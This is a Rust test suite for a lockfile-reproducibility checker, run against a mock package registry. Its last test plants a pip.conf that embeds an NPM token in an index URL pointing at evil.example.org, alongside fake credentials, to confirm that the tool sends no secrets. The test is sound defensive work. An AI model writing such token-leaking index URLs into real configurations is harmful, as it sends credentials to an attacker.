//! Rehearsals against a registry that is made up: true alarms, and the false ones that must not be raised.

use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::Value;
use sha2::{Digest, Sha256};
use tempfile::TempDir;

use crate::registry::{How, Page, Registry};

/// A repository, a user's home, and a registry.
struct Bench {
    registry: Registry,
    repository: TempDir,
    home: TempDir,
}

/// What a run gave.
struct Outcome {
    code: i32,
    out: String,
    err: String,
}

impl Bench {
    /// `@` in files and pages stands for the registry's address.
    fn new(files: &[(&str, &str)], pages: &[(&str, &str)]) -> Self {
        let registry = Registry::start();
        let bench = Self { registry, repository: TempDir::new().unwrap(), home: TempDir::new().unwrap() };
        let config = "[registry]\npython = \"@/simple\"\nnode = \"@/npm\"\nrust = \"@/index\"\n";
        bench.write("reproof.toml", config);
        for (path, text) in files {
            bench.write(path, text);
        }
        for (path, text) in pages {
            bench.registry.put(path, Page::json(text.replace('@', &bench.registry.url(""))));
        }
        bench
    }

    fn write(&self, path: &str, text: &str) {
        let full = self.repository.path().join(path);
        fs::create_dir_all(full.parent().unwrap()).unwrap();
        fs::write(full, text.replace("@/", &format!("{}/", self.registry.url("")))).unwrap();
    }

    fn run(&self, arguments: &[&str], variables: &[(&str, &str)]) -> Outcome {
        let output = Command::new(env!("CARGO_BIN_EXE_reproof"))
            .current_dir(self.repository.path())
            .arg("rehearse")
            .args(arguments)
            .env_clear()
            .env("NO_COLOR", "1")
            .env("HOME", self.home.path())
            .envs(variables.iter().copied())
            .output()
            .unwrap();
        let host = self.registry.url("").replace("http://", "");
        let text = |bytes: &[u8]| {
            String::from_utf8_lossy(bytes).replace(&self.registry.url(""), "@").replace(&host, "index.example.com")
        };
        Outcome { code: output.status.code().unwrap(), out: text(&output.stdout), err: text(&output.stderr) }
    }

    /// The exit code, the verdicts, and of each package its outcome.
    fn judge(&self, arguments: &[&str]) -> (i32, Vec<String>, Vec<String>) {
        let outcome = self.run(&[&["--format", "json"], arguments].concat(), &[]);
        let report: Value =
            serde_json::from_str(&outcome.out).unwrap_or_else(|_| panic!("{}{}", outcome.out, outcome.err));
        let rows = report["rehearsal"].as_array().unwrap();
        let verdicts = rows.iter().map(|row| row["verdict"].as_str().unwrap().to_owned()).collect();
        let mut packages: Vec<String> = rows
            .iter()
            .flat_map(|row| row["artifacts"].as_array().unwrap())
            .filter(|artifact| artifact["kind"] == "package" || artifact["kind"] == "lockfile")
            .map(|artifact| format!("{} {}", artifact["name"].as_str().unwrap(), artifact["outcome"].as_str().unwrap()))
            .collect();
        packages.sort();
        (outcome.code, verdicts, packages)
    }
}

const PYTHON: (&str, &str) = (".python-version", "3.12.7\n");

/// A SHA-256 of one digit.
fn sha(digit: char) -> String {
    digit.to_string().repeat(64)
}

/// A page of the simple API: name, then file name, digit of the hash and what else is said of it.
fn simple(name: &str, files: &[(&str, char, &str)]) -> String {
    let files: Vec<String> = files
        .iter()
        .map(|(file, digit, more)| {
            format!(
                r#"{{"filename": "{file}", "url": "@/files/{file}", "hashes": {{"sha256": "{}"}}{more}}}"#,
                sha(*digit)
            )
        })
        .collect();
    format!(r#"{{"name": "{name}", "files": [{}]}}"#, files.join(", "))
}

/// A uv.lock of one package.
fn uv(name: &str, files: &[(&str, char)]) -> String {
    let wheels: Vec<String> = files
        .iter()
        .map(|(file, digit)| format!("    {{ url = \"@/files/{file}\", hash = \"sha256:{}\" }},\n", sha(*digit)))
        .collect();
    format!(
        "version = 1\nrevision = 3\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = {{ virtual = \".\" }}\ndependencies = [\n    {{ name = \"{name}\" }},\n]\n\n[[package]]\nname = \"{name}\"\nversion = \"1.0\"\nsource = {{ registry = \"@/simple\" }}\nwheels = [\n{}]\n",
        wheels.concat()
    )
}

const PROJECT: (&str, &str) = (
    "pyproject.toml",
    "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.12\"\ndependencies = [\"idna\"]\n",
);

const PURE: &str = "idna-1.0-py3-none-any.whl";
const LINUX: &str = "idna-1.0-cp312-cp312-manylinux_2_17_x86_64.whl";
const MAC: &str = "idna-1.0-cp312-cp312-macosx_11_0_arm64.whl";
const SOURCE: &str = "idna-1.0.tar.gz";

#[test]
fn what_a_uv_lock_holds_against_what_is_offered() {
    let yanked = r#", "yanked": "broken""#;
    for (said, locked, offered, verdict, code) in [
        ("as it was", vec![(PURE, 'a')], vec![(PURE, 'a', "")], "recreatable idna offered", 0),
        ("the hash was edited", vec![(PURE, 'b')], vec![(PURE, 'a', "")], "not-recreatable idna changed", 1),
        ("yanked is not gone", vec![(PURE, 'a')], vec![(PURE, 'a', yanked)], "warnings idna yanked", 0),
        (
            "the wheel is gone",
            vec![(LINUX, 'a'), (SOURCE, 'b')],
            vec![(SOURCE, 'b', "")],
            "not-recreatable idna gone",
            1,
        ),
        (
            "that of another machine is",
            vec![(LINUX, 'a'), (MAC, 'b')],
            vec![(LINUX, 'a', "")],
            "recreatable idna offered",
            0,
        ),
        (
            "or has changed",
            vec![(LINUX, 'a'), (MAC, 'b')],
            vec![(LINUX, 'a', ""), (MAC, 'c', "")],
            "warnings idna changed",
            0,
        ),
        ("only source", vec![(SOURCE, 'a')], vec![(SOURCE, 'a', "")], "warnings idna source-build", 0),
        ("nothing for the target", vec![(MAC, 'a')], vec![(MAC, 'a', "")], "not-recreatable idna no-file", 1),
        ("the version is gone", vec![(PURE, 'a')], vec![("idna-2.0.tar.gz", 'a', "")], "not-recreatable idna gone", 1),
    ] {
        let bench = Bench::new(
            &[PYTHON, PROJECT, ("uv.lock", &uv("idna", &locked))],
            &[("/simple/idna/", &simple("idna", &offered))],
        );
        let (exit, verdicts, packages) = bench.judge(&[]);
        let found = packages.iter().find(|package| package.starts_with("idna")).unwrap();
        assert_eq!((format!("{} {found}", verdicts[0]), exit), (verdict.to_owned(), code), "{said}");
    }
}

#[test]
fn what_could_not_be_found_out_is_unknown() {
    let lock = uv("idna", &[(PURE, 'a')]);
    let stripped = format!(r#"{{"name": "idna", "files": [{{"filename": "{PURE}", "hashes": {{}}}}]}}"#);
    for (said, page) in [
        ("a mirror without hashes", Some(Page::json(stripped))),
        (
            "another kind of hash",
            Some(Page::json(format!(
                r#"{{"name": "idna", "files": [{{"filename": "{PURE}", "hashes": {{"md5": "{}"}}}}]}}"#,
                "0".repeat(32)
            ))),
        ),
        ("a page to log in", Some(Page::json("<html>"))),
        ("a lie", Some(Page::json(simple("other", &[])))),
        ("a refusal", Some(Page::status(403))),
        ("cut off", Some(Page::json(simple("idna", &[(PURE, 'a', "")])).how(How::CutOff))),
    ] {
        let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[]);
        bench.registry.put("/simple/idna/", page.unwrap());
        let (code, verdicts, packages) = bench.judge(&[]);
        assert_eq!((code, verdicts[0].as_str(), packages[1].as_str()), (3, "unknown", "idna unknown"), "{said}");
    }
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[]);
    assert_eq!(bench.judge(&[]).0, 1, "a package that the registry does not have is gone, not unknown");
    let quarantined = r#"{"name": "idna", "project-status": {"status": "quarantined"}, "files": []}"#;
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", quarantined)]);
    let (code, _, packages) = bench.judge(&[]);
    assert_eq!((code, packages[1].as_str()), (1, "idna quarantined"));
    // Without a Python version nothing tells which of several files is installed.
    let lock = uv("idna", &[(LINUX, 'a'), (MAC, 'b')]);
    let bench = Bench::new(&[PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &simple("idna", &[(LINUX, 'a', "")]))]);
    assert_eq!(bench.judge(&[]).0, 3);
    assert_eq!(bench.judge(&["--target", "python3.12-linux"]).0, 0);
    assert_eq!(bench.judge(&["--target", "python3.12-macos-arm64"]).0, 1);
}

#[test]
fn false_alarms_of_python_lockfiles() {
    let page = simple(
        "zope-interface",
        &[("zope.interface-1.0-py3-none-any.whl", 'a', ""), ("zope.interface-1.0.tar.gz", 'b', "")],
    );
    let wheel = "zope.interface-1.0-py3-none-any.whl";
    let sum = sha('a');
    let poetry = |rest: &str| {
        format!(
            "[[package]]\nname = \"Zope.Interface\"\nversion = \"1.0\"\noptional = false\npython-versions = \"*\"\n{rest}\n[metadata]\nlock-version = \"1.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n"
        )
    };
    let locks = [
        ("poetry.lock", poetry(&format!("files = [{{file = \"{wheel}\", hash = \"sha256:{sum}\"}}]\n"))),
        (
            "poetry.lock",
            format!(
                "{}\n[metadata.files]\n\"zope.interface\" = [{{file = \"{wheel}\", hash = \"sha256:{sum}\"}}]\n",
                poetry("")
            ),
        ),
        (
            "poetry.lock",
            format!("{}\n[metadata.hashes]\n\"zope.interface\" = [\"{sum}\", \"{}\"]\n", poetry(""), sha('f')),
        ),
        (
            "Pipfile.lock",
            format!(
                "{{\"_meta\": {{\"hash\": {{\"sha256\": \"0\"}}, \"pipfile-spec\": 6, \"requires\": {{}}, \"sources\": []}}, \"default\": {{\"zope.interface\": {{\"hashes\": [\"sha256:{sum}\", \"sha256:{}\"], \"version\": \"==1.0\"}}}}, \"develop\": {{}}}}",
                sha('b')
            ),
        ),
        (
            "requirements.txt",
            format!(
                "#\n# This file is autogenerated by pip-compile with Python 3.12\n# by the following command:\n#\n#    pip-compile --generate-hashes\n#\nzope-interface==1.0 \\\n    --hash=sha256:{sum} \\\n    --hash=sha256:{}\n",
                sha('b')
            ),
        ),
        (
            "pylock.toml",
            format!(
                "lock-version = \"1.0\"\ncreated-by = \"x\"\n[[packages]]\nname = \"zope-interface\"\nversion = \"1.0\"\nwheels = [{{name = \"{wheel}\", url = \"@/files/{wheel}\", hashes = {{sha256 = \"{sum}\"}}}}]\n"
            ),
        ),
        (
            "pdm.lock",
            format!(
                "[metadata]\ngroups = [\"default\"]\nstrategy = []\nlock_version = \"4.5.0\"\ncontent_hash = \"sha256:0\"\n[[metadata.targets]]\nrequires_python = \">=3.12\"\n[[package]]\nname = \"zope-interface\"\nversion = \"1.0\"\nfiles = [{{file = \"{wheel}\", hash = \"sha256:{sum}\"}}]\n"
            ),
        ),
    ];
    for (path, text) in locks {
        let bench = Bench::new(&[PYTHON, (path, &text)], &[("/simple/zope-interface/", &page)]);
        let (code, verdicts, packages) = bench.judge(&[]);
        assert_eq!((code, packages), (0, vec!["zope-interface offered".to_owned()]), "{path} {text} {verdicts:?}");
        let edited = text.replace(&sum, &sha('e'));
        bench.write(path, &edited);
        let (code, _, packages) = bench.judge(&[]);
        // Files that are not named leave open which one was meant.
        let expected = if matches!(path, "Pipfile.lock" | "requirements.txt") { 3 } else { 1 };
        assert_eq!(code, expected, "an edited hash in {path}: {packages:?}");
    }
}

#[test]
fn what_is_not_installed_on_the_target_alarms_nobody() {
    let lock = uv("idna", &[(PURE, 'a')])
        .replace("{ name = \"idna\" }", "{ name = \"idna\", marker = \"sys_platform == 'win32'\" }");
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[]);
    let (code, verdicts, packages) = bench.judge(&[]);
    assert_eq!((code, verdicts[0].as_str(), packages[1].as_str()), (0, "recreatable", "idna excluded"));
    assert_eq!(bench.judge(&["--target", "python3.12-windows"]).0, 1);
}

/// A package-lock.json of version 3.
fn npm(packages: &str) -> String {
    format!("{{\"name\": \"app\", \"lockfileVersion\": 3, \"packages\": {{\"\": {{\"name\": \"app\"}}{packages}}}}}")
}

const NODE: &[(&str, &str)] = &[(".nvmrc", "22.4.1\n"), ("package.json", "{\"name\": \"app\", \"private\": true}")];

/// Base 64 of nothing's SHA-1, which both spellings below have.
const SHA1: &str = "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=";
const SHASUM: &str = "da39a3ee5e6b4b0d3255bfef95601890afd80709";

#[test]
fn packages_of_node() {
    let sha512 = format!("sha512-{}==", "A".repeat(86));
    let other = format!("sha512-{}==", "B".repeat(84) + "AA");
    let page = format!(
        r#"{{"name": "left", "versions": {{"1.0.0": {{"dist": {{"integrity": "{sha512}", "shasum": "{SHASUM}", "tarball": "@/t"}}}}, "2.0.0": {{"deprecated": "no", "dist": {{"shasum": "{SHASUM}"}}}}}}}}"#
    );
    let entry = |version: &str, rest: &str| format!(", \"node_modules/left\": {{\"version\": \"{version}\"{rest}}}");
    let with = |integrity: &str| format!(", \"integrity\": \"{integrity}\"");
    for (said, packages, expected, code) in [
        ("as it was, without an address", entry("1.0.0", &with(&sha512)), "left offered", 0),
        ("the same by SHA-1", entry("1.0.0", &with(SHA1)), "left offered", 0),
        ("several hashes", entry("1.0.0", &with(&format!("{SHA1} {sha512}"))), "left offered", 0),
        ("the hash was edited", entry("1.0.0", &with(&other)), "left changed", 1),
        ("the registry knows SHA-1 only", entry("2.0.0", &with(&sha512)), "left unknown", 3),
        ("deprecated", entry("2.0.0", &with(SHA1)), "left offered", 0),
        ("gone", entry("3.0.0", &with(&sha512)), "left gone", 1),
        ("not hashed", entry("1.0.0", ""), "left unhashed", 0),
        ("in the archive of another", entry("9.9.9", ", \"inBundle\": true"), "left covered", 0),
        ("a link", ", \"node_modules/left\": {\"resolved\": \"packages/left\", \"link\": true}, \"packages/left\": {\"version\": \"1.0.0\"}".to_owned(), "left own", 0),
        ("a file", entry("1.0.0", ", \"resolved\": \"file:left.tgz\""), "left inside", 0),
        ("another machine's", entry("3.0.0", ", \"optional\": true, \"os\": [\"darwin\"]"), "left excluded", 0),
        ("git, at a commit", entry("1.0.0", &format!(", \"resolved\": \"git+ssh://git@git.example.com/a/left.git#{SHASUM}\"")), "left pinned", 0),
        ("git, at a branch", entry("1.0.0", ", \"resolved\": \"git+ssh://git@git.example.com/a/left.git#main\""), "left floating", 1),
        ("another name for it", format!(", \"node_modules/alias\": {{\"name\": \"left\", \"version\": \"1.0.0\", \"integrity\": \"{sha512}\"}}"), "left offered", 0),
    ] {
        let lock = npm(&packages);
        let files = [NODE, &[("package-lock.json", lock.as_str())]].concat();
        let bench = Bench::new(&files, &[("/npm/left", &page)]);
        let (exit, _, found) = bench.judge(&[]);
        assert_eq!((found.join(", ").as_str(), exit), (expected, code), "{said}");
    }
    let locks = [
        (
            "package-lock.json",
            format!(
                "{{\"lockfileVersion\": 1, \"dependencies\": {{\"left\": {{\"version\": \"1.0.0\", \"integrity\": \"{SHA1}\"}}}}}}"
            ),
        ),
        (
            "yarn.lock",
            format!(
                "# yarn lockfile v1\n\n\nleft@^1.0.0:\n  version \"1.0.0\"\n  resolved \"@/npm/left/-/left-1.0.0.tgz#{SHASUM}\"\n"
            ),
        ),
        (
            "pnpm-lock.yaml",
            format!(
                "lockfileVersion: '9.0'\nimporters:\n  .: {{}}\npackages:\n  left@1.0.0:\n    resolution: {{integrity: {sha512}}}\nsnapshots:\n  left@1.0.0: {{}}\n"
            ),
        ),
        (
            "bun.lock",
            format!(
                "{{\"lockfileVersion\": 1, \"workspaces\": {{\"\": {{\"name\": \"app\"}}}}, \"packages\": {{\"left\": [\"left@1.0.0\", \"\", {{}}, \"{sha512}\"],}}}}"
            ),
        ),
    ];
    for (path, text) in locks {
        let files = [NODE, &[(path, text.as_str())]].concat();
        let bench = Bench::new(&files, &[("/npm/left", &page)]);
        let (code, _, found) = bench.judge(&[]);
        assert_eq!((found.join(", ").as_str(), code), ("left offered", 0), "{path}");
    }
}

/// A Cargo.lock of one crate.
fn cargo(name: &str, digit: char) -> String {
    let registry = cargo_lock::package::SourceId::default();
    format!(
        "version = 4\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n \"{name}\",\n]\n\n[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\nsource = \"registry+{}\"\nchecksum = \"{}\"\n",
        registry.url(),
        sha(digit)
    )
}

const RUST: &[(&str, &str)] = &[
    ("rust-toolchain.toml", "[toolchain]\nchannel = \"1.90.0\"\n"),
    (
        "Cargo.toml",
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\nserde = \"1\"\n",
    ),
];

#[test]
fn crates() {
    let line = |yanked: bool| {
        format!("{{\"name\":\"serde\",\"vers\":\"1.0.0\",\"cksum\":\"{}\",\"yanked\":{yanked}}}\n", sha('a'))
    };
    for (digit, yanked, expected, code) in
        [('a', false, "serde offered", 0), ('a', true, "serde yanked", 0), ('b', false, "serde changed", 1)]
    {
        let lock = cargo("serde", digit);
        let bench =
            Bench::new(&[RUST, &[("Cargo.lock", lock.as_str())]].concat(), &[("/index/se/rd/serde", &line(yanked))]);
        let (exit, _, found) = bench.judge(&[]);
        assert_eq!((found[1].as_str(), exit), (expected, code));
        let strict = bench.judge(&["--strict"]).0;
        assert_eq!(strict, i32::from(code == 1 || yanked));
    }
}

#[test]
fn an_edited_hash_is_named_with_its_place_and_both_hashes() {
    let lock = uv("idna", &[(PURE, 'b')]);
    let bench =
        Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &simple("idna", &[(PURE, 'a', "")]))]);
    let outcome = bench.run(&["--reproducible"], &[]);
    insta::assert_snapshot!(outcome.out);
    let outcome = bench.run(&["--reproducible", "--format", "markdown"], &[]);
    insta::assert_snapshot!(outcome.out);
}

#[test]
fn without_a_registry_it_says_what_to_set() {
    let lock = "[[package]]\nname = \"idna\"\nversion = \"1.0\"\noptional = false\npython-versions = \"*\"\nfiles = []\n[metadata]\nlock-version = \"2.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n";
    let bench = Bench::new(&[PYTHON, ("reproof.toml", ""), ("poetry.lock", lock)], &[]);
    let outcome = bench.run(&[], &[]);
    assert_eq!(outcome.code, 3);
    assert!(
        outcome.out.contains("no index is known for Python packages; say it in reproof.toml: [registry] python ="),
        "{}",
        outcome.out
    );
    let given = bench.registry.url("/simple");
    bench.registry.put("/simple/idna/", Page::json(simple("idna", &[(PURE, 'a', "")])));
    assert_eq!(bench.run(&[], &[("PIP_INDEX_URL", &given)]).code, 0, "pip's settings say it too");
}

#[test]
fn a_registry_that_moved_is_noted() {
    let lock = uv("idna", &[(PURE, 'a')]);
    let page = simple("idna", &[(PURE, 'a', "")]);
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &page)]);
    let outcome = bench.run(&["--all"], &[("UV_DEFAULT_INDEX", "https://mirror.example.com/simple")]);
    assert_eq!(outcome.code, 0, "{}", outcome.out);
    assert!(outcome.out.contains("moved         registry @/simple"), "{}", outcome.out);
    assert!(outcome.out.contains("today's settings choose https://mirror.example.com/simple"), "{}", outcome.out);
}

#[test]
fn offline_it_answers_from_the_cache() {
    let lock = uv("idna", &[(PURE, 'a')]);
    let bench =
        Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &simple("idna", &[(PURE, 'a', "")]))]);
    assert_eq!(bench.judge(&["--offline"]).0, 3);
    assert_eq!(bench.registry.asked().len(), 0);
    assert_eq!(bench.judge(&[]).0, 0);
    assert_eq!(bench.judge(&[]).0, 0);
    assert_eq!(bench.registry.asked().len(), 1);
    let offline = bench.run(&["--offline", "--all"], &[]);
    assert_eq!(offline.code, 0);
    assert!(offline.out.contains("@/simple on 2"), "the day it was asked is said: {}", offline.out);
    assert_eq!(bench.judge(&["--max-age", "0"]).0, 0);
}

fn git(directory: &Path, arguments: &[&str]) {
    let done = Command::new("git")
        .current_dir(directory)
        .args(["-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"])
        .args(arguments)
        .output()
        .unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
}

#[test]
fn past_revisions_for_one_question_a_name() {
    let bench = Bench::new(&[PYTHON, PROJECT], &[("/simple/idna/", &simple("idna", &[(PURE, 'a', "")]))]);
    let root = bench.repository.path();
    git(root, &["init", "-q"]);
    for (tag, digit) in [("v1", 'a'), ("v2", 'b'), ("v3", 'a')] {
        bench.write("uv.lock", &uv("idna", &[(PURE, digit)]));
        bench.write("count.txt", tag);
        git(root, &["add", "-A"]);
        git(root, &["commit", "-q", "-m", tag]);
        git(root, &["tag", tag]);
    }
    bench.write("uv.lock", "no lockfile at all [");
    assert_eq!(bench.judge(&["v1"]).0, 0);
    assert_eq!(bench.judge(&["v2"]).0, 1);
    assert_eq!(bench.judge(&[]).0, 3, "the files as they are cannot be read");
    let (code, verdicts, _) = bench.judge(&["--tags", "v*"]);
    assert_eq!((code, verdicts), (1, ["recreatable", "not-recreatable", "recreatable"].map(str::to_owned).to_vec()));
    assert_eq!(bench.judge(&["--since", "1y"]).1.len(), 3);
    assert_eq!(bench.registry.asked().len(), 1, "one question for the whole history");
    for arguments in [&["nowhere"][..], &["--tags", "x*"]] {
        let outcome = bench.run(arguments, &[]);
        assert_eq!(outcome.code, 3, "{}{}", outcome.out, outcome.err);
    }
    assert_eq!(bench.run(&["--since", "soon"], &[]).code, 2);
}

#[test]
fn files_are_fetched_hashed_and_kept() {
    let body = b"a wheel".to_vec();
    let sum: String = Sha256::digest(&body).iter().map(|byte| format!("{byte:02x}")).collect();
    let lock = uv("idna", &[(PURE, 'a')]).replace(&sha('a'), &sum);
    let page = simple("idna", &[(PURE, 'a', "")]).replace(&sha('a'), &sum);
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &page)]);
    let file = format!("/files/{PURE}");
    assert_eq!(bench.judge(&["--deep"]).0, 3, "offered, and not to be had");
    bench.registry.put(&file, Page { body: body.clone(), ..Page::status(200) });
    let keep = bench.home.path().join("kept");
    let outcome = bench.run(&["--keep", keep.to_str().unwrap()], &[]);
    assert_eq!(outcome.code, 0, "{}{}", outcome.out, outcome.err);
    assert_eq!(fs::read(keep.join("python").join(PURE)).unwrap(), body);
    let asked = bench.registry.asked().len();
    assert_eq!(bench.run(&["--keep", keep.to_str().unwrap()], &[]).code, 0);
    assert_eq!(bench.registry.asked().len(), asked, "what is kept is not fetched again");
    bench.registry.put(&file, Page { body: b"another".to_vec(), ..Page::status(200) });
    let (code, _, packages) = bench.judge(&["--deep"]);
    assert_eq!((code, packages[1].as_str()), (1, "idna changed"));
}

#[test]
fn a_pull_request_cannot_have_a_token_sent() {
    let lock = npm(", \"node_modules/left\": {\"version\": \"1.0.0\"}");
    let poetry = "[[package]]\nname = \"idna\"\nversion = \"1.0\"\noptional = false\npython-versions = \"*\"\nfiles = []\n[metadata]\nlock-version = \"2.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n";
    let bench = Bench::new(&[NODE, &[("package-lock.json", &lock), ("poetry.lock", poetry)]].concat(), &[]);
    let host = bench.registry.url("").replace("http:", "");
    bench.write(".npmrc", &format!("registry=@/npm\n{host}/:_authToken=${{NPM_TOKEN}}\n"));
    bench.write("pip.conf", "[global]\nindex-url = http://${NPM_TOKEN}@evil.example.org/simple\n");
    bench.write("pyproject.toml", "[[tool.poetry.source]]\nname = \"corp\"\nurl = \"@/simple\"\n");
    fs::write(bench.home.path().join(".netrc"), "machine 127.0.0.1 login l password secret\n").unwrap();
    bench.write("ci.conf", "[global]\nindex-url = @/simple\n");
    bench.write(".cargo/config.toml", "[registries.corp]\nindex = \"sparse+@/index/\"\n");
    // Variables that lead into the repository, as some CI has them, make its files nobody's own.
    let variables = [
        ("PIP_CONFIG_FILE", "ci.conf"),
        ("NPM_CONFIG_USERCONFIG", ".npmrc"),
        ("CARGO_HOME", ".cargo"),
        ("CARGO_REGISTRIES_CORP_TOKEN", "secret"),
        ("NPM_TOKEN", "secret"),
        ("POETRY_HTTP_BASIC_CORP_PASSWORD", "secret"),
        ("POETRY_HTTP_BASIC_CORP_USERNAME", "u"),
    ];
    let outcome = bench.run(&[], &variables);
    let asked = bench.registry.asked();
    assert_eq!(asked.len(), 2, "{}{}", outcome.out, outcome.err);
    for one in asked {
        assert!(!format!("{one:?}").contains("secret") && !one.headers.contains_key("authorization"), "{one:?}");
    }
    assert!(!outcome.out.contains("secret"));
}
